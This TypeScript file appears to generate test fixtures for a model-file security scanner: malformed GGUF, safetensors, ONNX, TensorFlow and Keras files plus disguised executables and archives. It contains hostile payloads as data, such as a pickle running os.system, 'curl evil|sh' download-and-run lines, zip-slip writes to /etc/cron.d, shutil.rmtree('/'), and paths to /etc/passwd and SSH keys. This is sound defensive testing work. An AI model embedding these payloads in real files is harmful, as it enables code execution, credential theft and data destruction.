import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import type { Sample } from './sample.ts';

const made: Sample[] = [];
const add = (family: string, name: string, path: string, content: string | Uint8Array): void => {
  made.push({ family, name, files: { [path]: content } });
};
const J = (value: unknown): string => JSON.stringify(value);

function addGguf(): void {
  const u32 = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n >>> 0);
    return b;
  };
  const u64 = (n: number | bigint) => {
    const b = Buffer.alloc(8);
    b.writeBigUInt64LE(BigInt.asUintN(64, BigInt(n)));
    return b;
  };
  const str = (s: string) => Buffer.concat([u64(Buffer.byteLength(s)), Buffer.from(s)]);
  const head = (t: number | bigint, k: number | bigint, v = 3) =>
    Buffer.concat([Buffer.from('GGUF'), u32(v), u64(t), u64(k)]);
  const arch = Buffer.concat([str('general.architecture'), u32(8), str('llama')]);
  const T = (name: string, dims: (number | bigint)[], type: number, off: number | bigint) =>
    Buffer.concat([str(name), u32(dims.length), ...dims.map(u64), u32(type), u64(off)]);
  const fin = (b: Buffer, data = 0) =>
    Buffer.concat([b, Buffer.alloc((32 - (b.length % 32)) % 32), Buffer.alloc(data)]);
  const g = (n: string, b: Buffer) => add('gguf', n, 'm.gguf', b);
  g('kv-count-huge', fin(Buffer.concat([head(0, 1n << 60n), arch])));
  g('tensor-count-huge', fin(Buffer.concat([head((1n << 64n) - 1n, 1), arch])));
  g('string-len-overflow', fin(Buffer.concat([head(0, 1), u64((1n << 64n) - 1n), Buffer.from('x')])));
  g('array-len-overflow', fin(Buffer.concat([head(0, 1), str('a'), u32(9), u32(4), u64(1n << 62n)])));
  g('nested-array', fin(Buffer.concat([head(0, 1), str('a'), u32(9), u32(9), u64(1), u32(9), u64(1), u32(9), u64(1)])));
  g('bad-type', fin(Buffer.concat([head(0, 1), str('a'), u32(99), u32(1)])));
  g('tensor-past-eof', fin(Buffer.concat([head(1, 1), arch, T('a', [1024], 0, 0)]), 32));
  g('tensor-dims-overflow', fin(Buffer.concat([head(1, 1), arch, T('a', [1n << 40n, 1n << 40n], 0, 0)]), 32));
  g('tensor-overlap', fin(Buffer.concat([head(2, 1), arch, T('a', [16], 0, 0), T('b', [16], 0, 32)]), 128));
  g('tensor-5dims', fin(Buffer.concat([head(1, 1), arch, T('a', [1, 1, 1, 1, 1], 0, 0)]), 32));
  g('tensor-bad-type', fin(Buffer.concat([head(1, 1), arch, T('a', [8], 777, 0)]), 32));
  g('tensor-unaligned', fin(Buffer.concat([head(1, 1), arch, T('a', [8], 0, 5)]), 64));
  g('tensor-dup', fin(Buffer.concat([head(2, 1), arch, T('a', [8], 0, 0), T('a', [8], 0, 32)]), 64));
  g('align-0', fin(Buffer.concat([head(0, 2), arch, str('general.alignment'), u32(4), u32(0)])));
  g('align-3', fin(Buffer.concat([head(0, 2), arch, str('general.alignment'), u32(4), u32(3)])));
  g('dup-key', fin(Buffer.concat([head(0, 2), arch, arch])));
  g('truncated', Buffer.from('GGUF\x03\0\0\0'));
  g('bigendian', Buffer.concat([Buffer.from('GGUF'), Buffer.from([0, 0, 0, 3]), Buffer.alloc(16)]));
  g('zero-dim', fin(Buffer.concat([head(1, 1), arch, T('a', [0, 1n << 63n], 0, 0)]), 32));
  g(
    'trailing-elf',
    fin(Buffer.concat([head(0, 1), arch]), 0) &&
      Buffer.concat([
        fin(Buffer.concat([head(0, 1), arch])),
        Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
        Buffer.alloc(9),
        Buffer.from([2, 0, 0x3e, 0, 1, 0, 0, 0]),
        Buffer.alloc(200),
      ]),
  );
}
function addSafetensors(): void {
  // ---- safetensors
  const st = (h: string, data = 0, len?: bigint) => {
    const b = Buffer.alloc(8);
    b.writeBigUInt64LE(len ?? BigInt(Buffer.byteLength(h)));
    return Buffer.concat([b, Buffer.from(h), Buffer.alloc(data)]);
  };
  const s = (n: string, b: Buffer) => add('safetensors', n, 'model.safetensors', b);
  const ten = (o: [number, number], shape = [(o[1] - o[0]) / 4]) => ({ dtype: 'F32', shape, data_offsets: o });
  s('header-long', st(J({ a: ten([0, 4]) }), 4, 1n << 40n));
  s('header-overflow', st('{}', 0, (1n << 64n) - 1n));
  s('hole', st(JSON.stringify({ a: ten([0, 4]), b: ten([8, 12]) }), 12));
  s('overlap', st(JSON.stringify({ a: ten([0, 8]), b: ten([4, 12]) }), 12));
  s('trailing', st(JSON.stringify({ a: ten([0, 4]) }), 64));
  s('short', st(JSON.stringify({ a: ten([0, 400]) }), 4));
  s(
    'duplicate',
    st(
      '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
      8,
    ),
  );
  s(
    'dup-meta',
    st('{"__metadata__":{},"__metadata__":{"a":"b"},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4),
  );
  s('negative', st('{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}', 4));
  s('shape-mismatch', st('{"a":{"dtype":"F32","shape":[5],"data_offsets":[0,4]}}', 4));
  s('reversed', st('{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,0]}}', 4));
  s('dtype', st('{"a":{"dtype":"PWN","shape":[1],"data_offsets":[0,4]}}', 4));
  s('array-root', st('[]', 0));
  s('meta-nonstring', st('{"__metadata__":{"a":{"b":1}},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4));
  s('float-offset', st('{"a":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4.0]}}', 4));
  s('pickle-inside', Buffer.from('\x80\x04cos\nsystem\n\x8c\x02id\x85R.', 'latin1'));
  s('space-start', st('  {"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', 4));
  s('not', Buffer.from('#!/bin/sh\nid\n'));
  s('overflow-shape', st('{"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,0]}}', 0));
  s(
    'script-trailing',
    Buffer.concat([st(JSON.stringify({ a: ten([0, 4]) }), 4), Buffer.from('\n#!/bin/sh\ncurl evil|sh\n')]),
  );
  s(
    'zip-trailing',
    Buffer.concat([st(JSON.stringify({ a: ten([0, 4]) }), 4), Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(40)]),
  );
}
function zip(files: Record<string, string | Uint8Array>, deflate = false) {
  const parts: Buffer[] = [],
    cd: Buffer[] = [];
  let off = 0;
  for (const [n, c] of Object.entries(files)) {
    const raw = Buffer.from(c),
      data = deflate ? deflateRawSync(raw) : raw,
      name = Buffer.from(n);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(deflate ? 8 : 0, 8);
    h.writeUInt32LE(crc32(raw), 14);
    h.writeUInt32LE(data.length, 18);
    h.writeUInt32LE(raw.length, 22);
    h.writeUInt16LE(name.length, 26);
    const l = Buffer.concat([h, name, data]);
    const e = Buffer.alloc(46);
    e.writeUInt32LE(0x02014b50, 0);
    e.writeUInt16LE(20, 4);
    e.writeUInt16LE(20, 6);
    h.copy(e, 8, 6, 30);
    e.writeUInt16LE(0, 30);
    e.writeUInt32LE(off, 42);
    h.copy(e, 10, 8, 10);
    h.copy(e, 16, 14, 28);
    e.writeUInt16LE(name.length, 28);
    cd.push(Buffer.concat([e, name]));
    parts.push(l);
    off += l.length;
  }
  const c = Buffer.concat(cd);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(cd.length, 8);
  end.writeUInt16LE(cd.length, 10);
  end.writeUInt32LE(c.length, 12);
  end.writeUInt32LE(off, 16);
  return Buffer.concat([...parts, c, end]);
}
function tar(files: Record<string, string | Uint8Array>) {
  const p: Buffer[] = [];
  for (const [n, c] of Object.entries(files)) {
    const d = Buffer.from(c);
    const h = Buffer.alloc(512);
    h.write(n, 0);
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(d.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\x0000', 257);
    let s = 0;
    for (const b of h) s += b;
    h.write(s.toString(8).padStart(6, '0') + '\0 ', 148);
    p.push(h, d, Buffer.alloc((512 - (d.length % 512)) % 512));
  }
  return Buffer.concat([...p, Buffer.alloc(1024)]);
}
// ---- executables
const elf = Buffer.concat([
  Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0', 'latin1'),
  Buffer.alloc(200),
]);
const so = Buffer.from(elf);
so[16] = 3;
const pe = Buffer.alloc(512);
pe.write('MZ');
pe.writeUInt32LE(0x80, 0x3c);
pe.write('PE\0\0', 0x80);
pe.writeUInt16LE(0x8664, 0x84);
const macho = Buffer.concat([
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0]),
  Buffer.alloc(200),
]);
const fat = Buffer.concat([
  Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 1, 0, 0, 7, 0, 0, 0, 3]),
  Buffer.alloc(200),
]);
const cls = Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 0, 0x1d]), Buffer.alloc(200)]);
const wasm = Buffer.concat([
  Buffer.from('\0asm\x01\0\0\0', 'latin1'),
  Buffer.from([1, 4, 1, 0x60, 0, 0]),
  Buffer.alloc(0),
]);
const dex = Buffer.concat([Buffer.from('dex\n035\0'), Buffer.alloc(200)]);
const ape = Buffer.concat([Buffer.from("MZqFpD='\n\n"), Buffer.alloc(600)]);
const pyc = Buffer.concat([
  Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]),
  Buffer.alloc(12),
  Buffer.from([0xe3]),
  Buffer.alloc(60),
]);
const exes: Record<string, Buffer> = { elf, so, pe, macho, fat, class: cls, wasm, dex, ape, pyc };
for (const [k, b] of Object.entries(exes))
  for (const p of [
    'tool',
    'model.bin',
    'weights.safetensors',
    'config.json',
    'tokenizer.model',
    'README.md',
    'pytorch_model.pt',
    'image.png',
    'lib/x.so',
    'data.npy',
    'vocab.txt',
    'x.exe',
    'model.gguf',
    'model.onnx',
    'a.dat',
  ]) {
    if (k === 'wasm' && p === 'a.dat') continue;
    add('executable', `${k}@${p}`, p, b);
  }
for (const [k, b] of Object.entries(exes)) {
  add('executable', k + '@zip', 'a.zip', zip({ 'bin/x': b }));
  add('executable', k + '@zip-deflate', 'a.zip', zip({ 'bin/x': b }, true));
  add('executable', k + '@tar', 'a.tar', tar({ 'bin/x': b }));
  add('executable', k + '@targz', 'a.tar.gz', gzipSync(tar({ 'bin/x': b })));
  add('executable', k + '@gz', 'a.gz', gzipSync(b));
  add('executable', k + '@keras', 'm.keras', zip({ 'config.json': '{}', 'metadata.json': '{}', 'assets/x': b }));
}
add('executable', 'jar', 'a.jar', zip({ 'META-INF/MANIFEST.MF': 'Main-Class: X\n', 'X.class': cls }));
add('executable', 'whl-so', 'a.whl', zip({ 'x/_c.so': so }));
add(
  'executable',
  'whl-py',
  'a-1.0-py3-none-any.whl',
  zip({ 'a/__init__.py': 'import os\nos.system("id")\n', 'a-1.0.dist-info/METADATA': 'Name: a\n' }),
);
add(
  'executable',
  'sdist',
  'a-1.0.tar.gz',
  gzipSync(tar({ 'a-1.0/setup.py': 'import os\nos.system("curl evil.invalid|sh")\n' })),
);
add('executable', 'zip-py-modeling', 'a.zip', zip({ 'modeling_x.py': 'import os\nos.system("id")\n' }));
add('executable', 'zip-config', 'a.zip', zip({ 'config.json': '{"auto_map":{"AutoModel":"x.X"}}' }));
add('executable', 'zip-slip', 'a.zip', zip({ '../../etc/cron.d/x': 'id' }));
add('executable', 'tar-slip', 'a.tar', tar({ '../../etc/cron.d/x': 'id' }));
add('executable', 'zip-abs', 'a.zip', zip({ '/etc/cron.d/x': 'id' }));
add('executable', 'mar', 'm.mar', zip({ 'MAR-INF/MANIFEST.json': '{}', 'handler.py': 'import os\nos.system("id")\n' }));
add('executable', 'shebang-bin', 'model.bin', '#!/bin/sh\nid\n');
add('executable', 'shebang-py', 'weights', '#!/usr/bin/env python3\nimport os;os.system("id")\n');
add('executable', 'appimage', 'x.AppImage', elf);
add(
  'executable',
  'deb',
  'x.deb',
  Buffer.concat([Buffer.from('!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n')]),
);
add('executable', 'rpm', 'x.rpm', Buffer.concat([Buffer.from([0xed, 0xab, 0xee, 0xdb, 3, 0]), Buffer.alloc(100)]));
add(
  'executable',
  'msi',
  'x.msi',
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]),
);
add(
  'executable',
  'lnk',
  'README.lnk',
  Buffer.concat([
    Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]),
    Buffer.alloc(100),
  ]),
);
add(
  'executable',
  'exe-appended-png',
  'logo.png',
  Buffer.concat([
    Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    ),
    elf,
  ]),
);
add(
  'executable',
  'zip-appended-png',
  'logo.png',
  Buffer.concat([
    Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    ),
    zip({ 'x.py': 'import os;os.system("id")' }),
  ]),
);
add('executable', 'iso', 'x.iso', Buffer.concat([Buffer.alloc(32769), Buffer.from('CD001'), Buffer.alloc(100)]));
// ---- keras
const lam = (fn: unknown) => ({
  module: 'keras.layers',
  class_name: 'Lambda',
  config: { name: 'l', function: fn },
  registered_name: null,
});
const seq = (...layers: unknown[]) => ({
  module: 'keras',
  class_name: 'Sequential',
  config: { name: 's', layers },
  registered_name: null,
});
const K: Record<string, unknown> = {
  'lambda-marshal': seq(
    lam({ class_name: '__lambda__', config: { code: '4wAAAAAAAAAAAAAAAAAAAAAAAAAA', defaults: null, closure: null } }),
  ),
  'lambda-marshal-list': seq({
    class_name: 'Lambda',
    config: { function: ['4wAAAAAAAAAAAAAAAAAA\n', null, null], function_type: 'lambda', module: '__main__' },
  }),
  'lambda-python': seq(
    lam({ class_name: 'function', module: 'builtins', config: 'exec', registered_name: 'function' }),
  ),
  'lambda-os': seq(lam({ class_name: 'function', module: 'os', config: 'system', registered_name: 'function' })),
  'layer-os': seq({ module: 'os', class_name: 'system', config: {}, registered_name: null }),
  'layer-subprocess': seq({ module: 'subprocess', class_name: 'Popen', config: { args: 'id' } }),
  'layer-builtins': seq({ module: 'builtins', class_name: 'exec', config: { a: 'id' } }),
  'layer-importlib': seq({ module: 'importlib', class_name: 'import_module', config: {} }),
  'layer-keras-utils': seq({ module: 'keras.src.utils.file_utils', class_name: 'get_file', config: {} }),
  get_file: seq(
    lam({ module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' }),
  ),
  'enable-unsafe': seq(
    lam({
      module: 'keras.config',
      class_name: 'function',
      config: 'enable_unsafe_deserialization',
      registered_name: 'x',
    }),
  ),
  'enable-unsafe-src': seq({
    module: 'keras.src.saving.serialization_lib',
    class_name: 'enable_unsafe_deserialization',
    config: {},
  }),
  'torch-wrapper': seq({
    module: 'keras.layers',
    class_name: 'TorchModuleWrapper',
    config: { module: 'gASVAAAA', name: 't' },
  }),
  'torch-wrapper-src': seq({
    module: 'keras.src.utils.torch_utils',
    class_name: 'TorchModuleWrapper',
    config: { module: 'x' },
  }),
  'string-lookup': seq({ module: 'keras.layers', class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' } }),
  'index-lookup': seq({
    module: 'keras.layers',
    class_name: 'IntegerLookup',
    config: { vocabulary: 'http://evil.invalid/v' },
  }),
  'string-lookup-traversal': seq({
    module: 'keras.layers',
    class_name: 'StringLookup',
    config: { vocabulary: '../../secret.txt' },
  }),
  'text-vectorization': seq({
    module: 'keras.layers',
    class_name: 'TextVectorization',
    config: { vocabulary: '/proc/self/environ' },
  }),
  'foreign-module': seq({ module: 'evil_h6.layers', class_name: 'Layer', config: {} }),
  'registered-trick': seq({ module: 'os', class_name: 'Dense', config: {}, registered_name: 'Dense' }),
  'nested-initializer': seq({
    module: 'keras.layers',
    class_name: 'Dense',
    config: { units: 1, kernel_initializer: { module: 'os', class_name: 'system', config: { command: 'id' } } },
  }),
  'nested-activation': seq({
    module: 'keras.layers',
    class_name: 'Dense',
    config: {
      units: 1,
      activation: { module: 'builtins', class_name: 'function', config: 'eval', registered_name: 'function' },
    },
  }),
  'time-distributed': seq({
    module: 'keras.layers',
    class_name: 'TimeDistributed',
    config: { layer: lam({ class_name: '__lambda__', config: { code: '4wAAAA' } }) },
  }),
  'compile-config': { ...seq(), compile_config: { loss: { module: 'os', class_name: 'function', config: 'system' } } },
  'build-config': { ...seq(), build_config: { input_shape: { class_name: '__lambda__', config: { code: '4wAAAA' } } } },
  'bytes-numpy': seq({
    module: 'keras.layers',
    class_name: 'Dense',
    config: { x: { class_name: '__numpy__', config: { value: [1], dtype: 'object' } } },
  }),
  'slice-tuple': seq({
    module: 'keras.layers',
    class_name: 'Lambda',
    config: { function: { class_name: '__typespec__', spec_name: 'os.system', module: 'os', config: {} } },
  }),
  typespec: seq({
    module: 'keras',
    class_name: 'InputLayer',
    config: {
      spec: { class_name: '__typespec__', spec_name: 'system', module: 'os', config: {}, registered_name: null },
    },
  }),
  'model-load': seq(
    lam({ module: 'keras.models', class_name: 'function', config: 'load_model', registered_name: 'function' }),
  ),
  tfsmlayer: seq({ module: 'keras.layers', class_name: 'TFSMLayer', config: { filepath: '/tmp/evil', name: 't' } }),
  tfoplambda: seq({ class_name: 'TFOpLambda', config: { function: 'io.write_file' } }),
  'tf-raw': seq(lam({ module: 'tensorflow.raw_ops', class_name: 'function', config: 'WriteFile' })),
  'numpy-load': seq(lam({ module: 'numpy', class_name: 'function', config: 'load' })),
  shutil: seq({ module: 'shutil', class_name: 'rmtree', config: { path: '/' } }),
  ctypes: seq({ module: 'ctypes', class_name: 'CDLL', config: { name: 'x' } }),
  codeop: seq({ module: 'code', class_name: 'InteractiveConsole', config: {} }),
  'functional-api': {
    class_name: 'Functional',
    module: 'keras',
    config: { layers: [lam({ class_name: '__lambda__', config: { code: 'YWJj' } })] },
  },
  'keras2-model': {
    class_name: 'Model',
    config: {
      layers: [{ class_name: 'Lambda', config: { function: ['4wEAAA', null, null], function_type: 'lambda' } }],
    },
  },
  webbrowser: seq({ module: 'webbrowser', class_name: 'open', config: { url: 'http://evil.invalid' } }),
  pip: seq({ module: 'pip', class_name: 'main', config: {} }),
  'distutils-spawn': seq(lam({ module: 'distutils.spawn', class_name: 'function', config: 'spawn' })),
  'random-os': seq({ module: 'random._os', class_name: 'system', config: {} }),
  'image-load': seq(lam({ module: 'keras.preprocessing.image', class_name: 'function', config: 'load_img' })),
  'saving-h5': seq({
    module: 'keras.src.legacy.saving.legacy_h5_format',
    class_name: 'load_model_from_hdf5',
    config: {},
  }),
};
for (const [n, c] of Object.entries(K)) {
  add(
    'keras',
    n + '@keras',
    'm.keras',
    zip({ 'metadata.json': J({ keras_version: '3.4.0' }), 'config.json': J(c), 'model.weights.h5': '' }),
  );
  add('keras', n + '@json', 'model.json', J(c));
  add('keras', n + '@zip-named-h5', 'm.zip', zip({ 'metadata.json': '{}', 'config.json': J(c) }, true));
}
// ---- protobuf
const vi = (n: number | bigint) => {
  const o: number[] = [];
  let v = BigInt(n);
  do {
    let b = Number(v & 127n);
    v >>= 7n;
    if (v) b |= 128;
    o.push(b);
  } while (v);
  return Buffer.from(o);
};
const L = (f: number, b: string | Uint8Array) => {
  const d = Buffer.from(b);
  return Buffer.concat([vi((f << 3) | 2), vi(d.length), d]);
};
const V = (f: number, n: number | bigint) => Buffer.concat([vi(f << 3), vi(n)]);
const C = (parts: readonly Uint8Array[]): Buffer => Buffer.concat(parts);
const OPERATORS =
  'PyFunc PyFuncStateless EagerPyFunc ReadFile WriteFile MatchingFiles Save SaveSlices SaveV2 Restore RestoreV2 RestoreSlice MergeV2Checkpoints RpcCall RpcClient RpcServer RpcServerStart RegisterDataset RegisterDatasetV2 DataServiceDataset DataServiceDatasetV2 TextLineDataset TextLineReader TextLineReaderV2 TFRecordDataset TFRecordReader FixedLengthRecordDataset FixedLengthRecordReader WholeFileReader WholeFileReaderV2 LMDBReader LMDBDataset CSVDataset ExperimentalCSVDataset SqlDataset InitializeTableFromTextFile InitializeTableFromTextFileV2 LoadDataset LoadDatasetV2 SaveDataset SaveDatasetV2 SnapshotDataset SnapshotDatasetV2 CacheDatasetV2 CreateSummaryFileWriter CreateSummaryDbWriter GenerateVocabRemapping LoadAndRemapMatrix DatasetToTFRecord ExperimentalDatasetToTFRecord ImmutableConst BigQueryReader RecordInput FileSystemSetConfiguration DistributedSave'.split(
    ' ',
  );
/** A constant text for every operand, as a file that is opened by name is one. */
const constant = C([
  L(1, 'c'),
  L(2, 'Const'),
  L(5, C([L(1, 'value'), L(2, L(8, C([V(1, 7), L(8, '/tmp/modelgate-marker')])))])),
]);
for (const operator of OPERATORS) {
  const node = C([
    L(1, 'n'),
    L(2, operator),
    L(3, 'c'),
    L(3, 'c'),
    L(3, 'c'),
    L(5, C([L(1, 'file_pattern'), L(2, L(2, '/etc/*'))])),
  ]);
  const placeholder = L(1, C([L(1, 'x'), L(2, 'Placeholder')]));
  const graph = C([placeholder, L(1, constant), L(1, node)]);
  const inside = C([placeholder, L(2, L(1, C([L(1, L(1, 'f')), L(3, constant), L(3, node)])))]);
  add('tensorflow', `${operator} in a SavedModel`, 'saved_model.pb', C([V(1, 1), L(2, L(2, graph))]));
  add('tensorflow', `${operator} in a frozen graph`, 'frozen.pb', graph);
  add('tensorflow', `${operator} in a function`, 'saved_model.pb', C([V(1, 1), L(2, L(2, inside))]));
  add(
    'tensorflow',
    `${operator} in text`,
    'saved_model.pbtxt',
    `saved_model_schema_version: 1\nmeta_graphs { graph_def {\n  node { name: "c" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/tmp/modelgate-marker" } } } }\n  node { name: "n" op: "${operator}" input: "c" input: "c" input: "c" attr { key: "file_pattern" value { s: "/etc/*" } } }\n} }\n`,
  );
}
// ---- onnx
const onnx = (g: Buffer, extra = Buffer.alloc(0)) =>
  C([V(1, 8), L(2, 'x'), L(7, g), L(8, C([L(1, ''), V(2, 17)])), extra]);
const ext = (loc: string, more: Buffer[] = []) =>
  L(5, C([V(1, 1), V(2, 1), L(8, 'w'), V(14, 1), L(13, C([L(1, 'location'), L(2, loc)])), ...more]));
const nodeO = (op: string, dom = '') => L(1, C([L(1, 'a'), L(2, 'b'), L(4, op), L(7, dom)]));
for (const [n, l] of Object.entries({
  traversal: '../../etc/passwd',
  abs: '/etc/passwd',
  url: 'http://evil.invalid/w',
  file: 'file:///etc/passwd',
  win: 'C:\\x\\y',
  'win-traversal': '..\\..\\x',
  unc: '\\\\evil\\share\\x',
  home: '~/.ssh/id_rsa',
  nul: 'w.bin\0/../x',
  dotdot: 'a/../../b',
  mem: '*/_ORT_MEM_ADDR_/*',
  empty: '',
  proc: '/proc/self/mem',
  dot: './../x',
  env: '$HOME/x',
  encoded: 'a/%2e%2e/%2e%2e/x',
}))
  add('onnx', 'ext-' + n, 'm.onnx', onnx(C([nodeO('Identity'), ext(l)])));
for (const [op, d] of [
  ['Exec', 'evil.domain'],
  ['PyOp', 'ai.onnx.contrib'],
  ['PythonOp', 'com.microsoft'],
  ['Custom', 'my.ops'],
  ['ATen', 'org.pytorch.aten'],
  ['EPContext', 'com.microsoft'],
] as const)
  add('onnx', `domain-${d}-${op}`, 'm.onnx', onnx(nodeO(op, d)));
add('onnx', 'truncated', 'm.onnx', onnx(nodeO('Identity')).subarray(0, 12));
add(
  'onnx',
  'huge-dims',
  'm.onnx',
  onnx(C([nodeO('Identity'), L(5, C([V(1, 1n << 40n), V(1, 1n << 40n), V(2, 1), L(8, 'w'), L(9, 'abcd')]))])),
);
add(
  'onnx',
  'ext-in-constant',
  'm.onnx',
  onnx(
    L(
      1,
      C([
        L(4, 'Constant'),
        L(
          5,
          C([
            L(1, 'value'),
            L(5, C([V(1, 1), V(2, 1), L(8, 'w'), V(14, 1), L(13, C([L(1, 'location'), L(2, '../../x')]))])),
          ]),
        ),
      ]),
    ),
  ),
);
add(
  'onnx',
  'ext-in-subgraph',
  'm.onnx',
  onnx(L(1, C([L(4, 'If'), L(5, C([L(1, 'then_branch'), L(6, ext('/etc/passwd'))]))]))),
);
add(
  'onnx',
  'function-domain',
  'm.onnx',
  onnx(nodeO('F', 'local'), L(25, C([L(1, 'F'), L(10, 'local'), L(7, C([L(4, 'Exec'), L(7, 'evil.domain')]))]))),
);
add('onnx', 'elf-trailing', 'm.onnx', C([onnx(nodeO('Identity')), elf]));
add('onnx', 'ext-missing', 'm.onnx', onnx(C([nodeO('Identity'), ext('gone.bin')])));
add('onnx', 'named-bin', 'model.bin', onnx(C([nodeO('Identity'), ext('../../etc/passwd')])));
// ---- skops
for (const t of [
  'os.system',
  'builtins.exec',
  'subprocess.Popen',
  'evil_h6.Model',
  '__main__.X',
  'numpy.load',
  'operator.methodcaller',
]) {
  const [m, c] = [t.slice(0, t.lastIndexOf('.')), t.slice(t.lastIndexOf('.') + 1)];
  add(
    'skops',
    t,
    'm.skops',
    zip({
      'schema.json': J({
        __class__: c,
        __module__: m,
        __loader__: 'ObjectNode',
        content: {},
        protocol: 0,
        _skops_version: '0.9',
      }),
    }),
  );
  add(
    'skops',
    t + '-fn',
    'm.skops',
    zip({
      'schema.json': J({
        __class__: 'function',
        __module__: m,
        __loader__: 'FunctionNode',
        content: { module_path: m, function: c },
        protocol: 0,
        _skops_version: '0.9',
      }),
    }),
  );
}

addGguf();
addSafetensors();

/** Formats that are no text: executables, archives, graphs, descriptions and headers that lie. */
export const binaries: readonly Sample[] = made;
